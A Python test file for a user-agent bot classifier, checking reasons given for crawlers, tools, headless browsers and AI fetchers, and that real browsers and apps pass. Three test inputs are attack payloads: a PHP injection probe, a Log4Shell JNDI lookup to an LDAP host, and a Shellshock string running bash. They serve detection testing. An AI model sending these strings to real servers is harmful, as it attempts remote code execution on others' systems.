"""Bot classification: named crawlers, tools and libraries with their reasons, real browsers and
apps that must pass, and recall / false positives on a labelled sample of the bench corpora."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ingest import bots
from ingest.bots import BotVerdict, classify_user_agent
from ingest.enrichment import describe_user_agent

SAMPLE = Path(__file__).resolve().parents[1] / "data" / "bot_user_agents.tsv"
GOOGLE = "list:(?<! channel/)(?<!google/)google(?!(?:wv|app|/google| pixel))"
BOT_WORD = r"list:(?<! cu)bots?(?:\b|_)"
NAME_VERSION_ONLY = r"list:^[\w \.\-\(?:\):%]+(?:/v?\d+(?:\.\d+)?(?:\.\d{1,10})*?)?(?:,|$)"
HTTP = "list:(?<!lib)http"


@pytest.mark.parametrize(
    ("user_agent", "reason"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", GOOGLE),
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, "
            "like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
            "+http://www.google.com/bot.html)",
            GOOGLE,
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
            "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
            BOT_WORD,
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; "
            "+https://openai.com/gptbot",
            BOT_WORD,
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
            "+claudebot@anthropic.com)",
            BOT_WORD,
        ),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", BOT_WORD),
        ("curl/8.5.0", NAME_VERSION_ONLY),
        ("python-requests/2.31.0", NAME_VERSION_ONLY),
        ("Python/3.11 aiohttp/3.9.5", HTTP),
        ("Go-http-client/2.0", HTTP),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/126.0.0.0 Safari/537.36",
            "list:headless",
        ),
        (
            "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like "
            "Gecko) Chrome/126.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
            "list:chrome-lighthouse",
        ),
        (
            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
            "PhantomJS/2.1.1 Safari/538.1",
            "list:phantomjs",
        ),
        # The app's own part of an app HTTP stack's user agent is matched ("url").
        ("URLTester/1 CFNetwork/974.1 Darwin/18.0.0 (x86_64)", "list:url"),
        ("", "heuristic:empty"),
        ("   ", "heuristic:empty"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Safari/537.36 Puppeteer",
            "heuristic:automation",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltopdf "
            "Safari/534.34",
            "heuristic:automation",
        ),
        (
            "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4648",
            "heuristic:http-library",
        ),
        ("CopperEgg/Reveal/Oregon(aws)", "heuristic:no-version"),
        # (CopperEgg's real user agent, `CopperEgg/RevealUptime/Oregon(aws)`, names its service)
        ("CopperEgg/RevealUptime/Oregon(aws)", "heuristic:service"),
        ("Mozilla/4.0 (compatible; grub-client-2.3)", "heuristic:no-os"),
        # a headless engine, a QtWebKit script (its bare name where a browser's Name/version is)
        (
            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
            "SlimerJS/1.0.0 Safari/538.1",
            "heuristic:automation",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) imgsizer "
            "Safari/537.21",
            "heuristic:automation",
        ),
        # an AI assistant's token appended to a browser's user agent
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Safari/537.36 Perplexity-User/1.0",
            "heuristic:ai-assistant",
        ),
        # words naming a service: translation, debugging, fetching, bookmarking, SEO, screenshots
        (
            "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/48.0.2564.97 Safari/537.36 Yandex.Translate",
            "heuristic:service",
        ),
        (
            "Mozilla/5.0 (Linux; Android 11.0; moto g power (2022)) AppleWebKit/537.36 (KHTML, "
            "like Gecko) Chrome/134.0.0.0 Mobile Safari/537.36 DebugBear",
            "heuristic:service",
        ),
        ("Mikrotik/7.x Fetch", "heuristic:service"),
        ("Hatena::Bookmark/2.00 (Hatena::Bookmark; master;)", "heuristic:service"),
        (
            "SEOlizer/1.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1.13) Gecko/20080311 "
            "Firefox/2.0.0.13",
            "heuristic:service",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) "
            "www.HomepageScreenshot.de - Free ScreenShotService/1.0 Safari/537.21",
            "heuristic:service",
        ),
        # a search engine's bare name appended to a browser's user agent
        (
            "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/42.0.2311.152 Safari/537.36 (BingLocalSearch)",
            "heuristic:service",
        ),
        # a crawler's "+URL" comment entry, blank or not a URL
        ("Mozilla/5.0 (compatible; Acme/0.4; +; )", "heuristic:crawler-comment"),
        (
            "Mozilla/5.0 (compatible; Acme/1.0; +acme-adtech; contact via site) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/124.0 Safari/537.36",
            "heuristic:crawler-comment",
        ),
        # attack payloads
        ('Mozilliqa"<?=print(9347655345-4954366);?>"', "heuristic:injection"),
        ("Mozilla/5.0 (X11) ${jndi:ldap://203.0.113.7:1389/a}", "heuristic:injection"),
        ("Mozilla/5.0 (X11; Linux) () { :; }; /bin/bash -c id", "heuristic:injection"),
        # a library's own product token
        ("VLC/2.2.4 LibVLC/2.2.4", "heuristic:http-library"),
    ],
)
def test_bots_and_their_reasons(user_agent, reason):
    assert classify_user_agent(user_agent) == BotVerdict(is_bot=True, reason=reason)


@pytest.mark.parametrize(
    "user_agent",
    [
        # Chrome, Firefox, Safari, Edge on desktops
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68",
        # and on phones: Safari, Chrome, Firefox, Samsung Internet, Facebook's in-app browser
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.40.106;FBBV/577165474;FBDV/iPhone15,2;"
        "FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
        # desktop Microsoft Office apps
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.17628; Pro)",
        "Microsoft Office Excel/16.112.817 (Mac OS/15.3.1; Desktop; en-US; NonAppStore; "
        "Apple/Mac16,3)",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X) Word/14.64.0",
        # mobile apps' HTTP stacks: Android, iOS, OkHttp alone, Flutter
        "Dalvik/2.1.0 (Linux; U; Android 14; SM-G991B Build/UP1A.231005.007)",
        "MyShop/3.2.1 CFNetwork/1494.0.7 Darwin/23.4.0",
        "okhttp/4.12.0",
        "Dart/3.3 (dart:io)",
        # bot-like words in device models and platform comments
        "Mozilla/5.0 (Linux; U; Android 4.2.2; ru-ru; CRONY-7021 Build/JDQ39) AppleWebKit/534.30 "
        "(KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
        "Mozilla/5.0 (Linux; Android 13; Cabot X1 Build/TP1A.220624.014) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/87.0.4280.101 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Banca Caboto s.p.a.; rv:11.0) like Gecko",
        # look-alikes of the heuristics' shapes: a service word in a device model ("Seoul"),
        # search apps with a version, a bare word appended (TVs, in-app browsers), a QtWebKit
        # browser with its version and Samsung's TV browser, a "+" entry outside "compatible"
        "Mozilla/5.0 (Linux; Android 7.0; Seoul 5 Plus) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/83.0.4103.96 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 6.0; PacificE Build/MRA58K; wv) AppleWebKit/537.36 (KHTML, "
        "like Gecko) Version/4.0 Chrome/86.0.4240.198 Mobile Safari/537.36 YandexSearch/5.45",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/15.1 Mobile/15E148 Safari/605.1 NAVER(inapp; search; 1000; 11.8.10; 13)",
        "Mozilla/5.0 (Linux; Android 11; 43LU8030S Build/RP1A.200720.011; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/83.0.4103.120 YaBrowser/23.1.0.39 (lite) "
        "Safari/537.36 TV",
        "Mozilla/5.0 (Linux; Android 13; CPH2451 Build/TP1A.220905.001; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/118.0.0.0 Mobile Safari/537.36 TwitterAndroid",
        "Mozilla/5.0 (X11; Linux i686) AppleWebKit/538.1 (KHTML, like Gecko) QupZilla/1.8.6 "
        "Safari/538.1",
        "Mozilla/5.0 (SmartHub; SMART-TV; U; Linux/SmartTV; Maple2012) AppleWebKit/534.7 (KHTML, "
        "like Gecko) SmartTV Safari/534.7",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/87.0.4280.88 Safari/537.36 HbbTV/1.6.1 (+DRM; LGE; 50QNED816RE; WEBOS23 03.20.23; "
        "W23_K8HPP; DTV_W23H;)",
    ],
)
def test_people_pass(user_agent):
    assert classify_user_agent(user_agent) == bots.HUMAN


def test_describe_user_agent_carries_the_reason():
    crawler = describe_user_agent(
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
    )
    assert (crawler.is_bot, crawler.bot_reason) == (True, BOT_WORD)
    person = describe_user_agent(
        "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0"
    )
    assert (person.is_bot, person.bot_reason) == (False, "")


def _sample() -> list[tuple[bool, str]]:
    lines = [line for line in SAMPLE.read_text().split("\n") if line and not line.startswith("#")]
    rows = (line.split("\t", 1) for line in lines)
    return [(label == "bot", user_agent) for label, user_agent in rows]


def test_recall_and_false_positives_on_the_labelled_sample():
    # 400 crawlers and 400 browsers of the bench corpora (tests/data/bot_user_agents.tsv):
    # 95.75 % and 0.50 % when this was written; the goal's figures are bench/bots.py's.
    sample = _sample()
    bot_flags = [classify_user_agent(ua).is_bot for is_bot, ua in sample if is_bot]
    browser_flags = [classify_user_agent(ua).is_bot for is_bot, ua in sample if not is_bot]
    assert (len(bot_flags), len(browser_flags)) == (400, 400)
    assert sum(bot_flags) / len(bot_flags) >= 0.95
    assert sum(browser_flags) / len(browser_flags) <= 0.01


def test_the_gates_hide_no_match_of_the_list():
    # _list_reason skips the 200 patterns when its gates find nothing: on every sample user agent
    # it must name the same first pattern as trying all of them.
    for _, user_agent in _sample():
        text = user_agent.strip().lower()
        first = next((reason for _, pattern, reason in bots._LIST if pattern.search(text)), "")
        assert bots._list_reason(text) == first, user_agent


def test_the_one_search_for_names_hides_no_marker():
    # classify_user_agent skips the list's gate and the heuristics' markers when _NAMES finds
    # nothing: every literal of both must be in it.
    for literal in bots._GATE_LITERALS | bots._MARKER_REASONS.keys():
        assert bots._NAMES.search(f"mozilla/5.0 {literal} x"), literal


def test_the_vendored_list_has_every_pattern_left_out():
    patterns = set(
        json.loads((Path(bots.__file__).parent / "data" / "bots.json").read_text())["patterns"]
    )
    assert patterns >= bots.UNUSED_PATTERNS
